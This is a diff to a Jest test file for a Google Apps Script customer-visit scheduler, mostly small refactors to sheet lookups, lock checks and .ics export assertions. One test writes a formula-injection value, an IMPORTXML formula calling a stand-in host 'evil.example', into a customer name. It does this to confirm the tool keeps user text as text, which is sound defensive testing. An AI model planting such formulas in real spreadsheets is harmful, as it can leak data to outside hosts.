@@ -6,7 +6,7 @@
 import ICAL from 'ical.js';
 import { ManualClock, totalCalls, type Clock } from '../../tools/gas/fakes';
 import type { LoadedBundle } from '../../tools/gas/loadBundle';
-import { exec, fileState, lastAlert, sampleFile, sheetValues } from '../support/automation';
+import { exec, fileState, lastAlert, sampleFile, sheetValues, sheetOf, eventOf } from '../support/automation';
 
 jest.setTimeout(120_000);
 
@@ -14,7 +14,7 @@ const daily = (b: LoadedBundle) => exec(b, 'runDailyAutomation', { ui: false });
 
 /** Sets a parameter on the Settings sheet as a person would (the value cell beside its name). */
 function setSetting(b: LoadedBundle, name: string, value: unknown): void {
-  const sheet = b.fakes.direct.spreadsheet.getSheetByName('设置');
+  const sheet = sheetOf(b, '设置');
   const rows = sheet.getRange(1, 1, sheet.getLastRow(), 2).getValues();
   const at = rows.findIndex((r: unknown[]) => r[0] === name);
   if (at < 0) throw new Error(`no setting ${name}`);
@@ -74,7 +74,8 @@ describe('automation on and off, and the daily run', () => {
     const b = sampleFile();
     const other = b.next();
     other.fakes.beginExecution({});
-    expect(other.fakes.globals.LockService.getDocumentLock().tryLock(0)).toBe(true);
+    const lockService = other.fakes.globals.LockService as { getDocumentLock(): { tryLock(ms: number): boolean } };
+    expect(lockService.getDocumentLock().tryLock(0)).toBe(true);
     const r = exec(b, 'flagStaleRecords');
     expect(r.ok).toBe(true);
     expect(lastAlert(b)).toBe('另一个 Kehu 任务正在处理这个文件，本次未运行。请几分钟后再试。');
@@ -148,7 +149,8 @@ describe('export as .ics', () => {
     const r = exec(b, 'exportVisitSchedule');
     expect(r.ok).toBe(true);
     const dialog = b.fakes.ui.lastDialog();
-    const html = String(dialog.html ?? dialog.content);
+    expect(dialog?.kind).toBe('modal');
+    const html = String(dialog?.html);
     const json = /var ics = (".*");/.exec(html)![1];
     const ics = JSON.parse(json) as string;
     expect(ics.split('\r\n').every((line) => Buffer.byteLength(line, 'utf8') <= 75)).toBe(true);
@@ -165,11 +167,11 @@ describe('export as .ics', () => {
 describe('user text stays text', () => {
   it('a customer name that looks like a formula is written to the schedule as text', () => {
     const b = sampleFile({ customers: 40 });
-    const customers = b.fakes.direct.spreadsheet.getSheetByName('Customers');
+    const customers = sheetOf(b, 'Customers');
     customers.getRange(2, 2).setValue("'=IMPORTXML(\"http://evil.example\",\"//a\")");
     const id = customers.getRange(2, 1).getValue();
     exec(b, 'buildVisitSchedule');
-    const sheet = b.fakes.direct.spreadsheet.getSheetByName('拜访计划');
+    const sheet = sheetOf(b, '拜访计划');
     const values = sheet.getDataRange().getValues();
     const at = values.findIndex((r: unknown[]) => r[2] === id);
     expect(at).toBeGreaterThan(0);
